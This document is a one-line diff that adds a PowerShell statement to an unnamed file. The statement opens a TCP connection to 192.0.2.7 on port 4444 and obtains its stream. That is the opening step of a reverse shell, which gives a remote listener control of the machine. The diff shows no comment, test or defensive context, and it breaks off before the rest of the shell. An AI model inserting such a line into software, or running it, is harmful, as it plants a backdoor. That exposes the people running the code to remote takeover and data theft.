@@ -1,0 +1,1 @@
+$c=New-Object Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream()
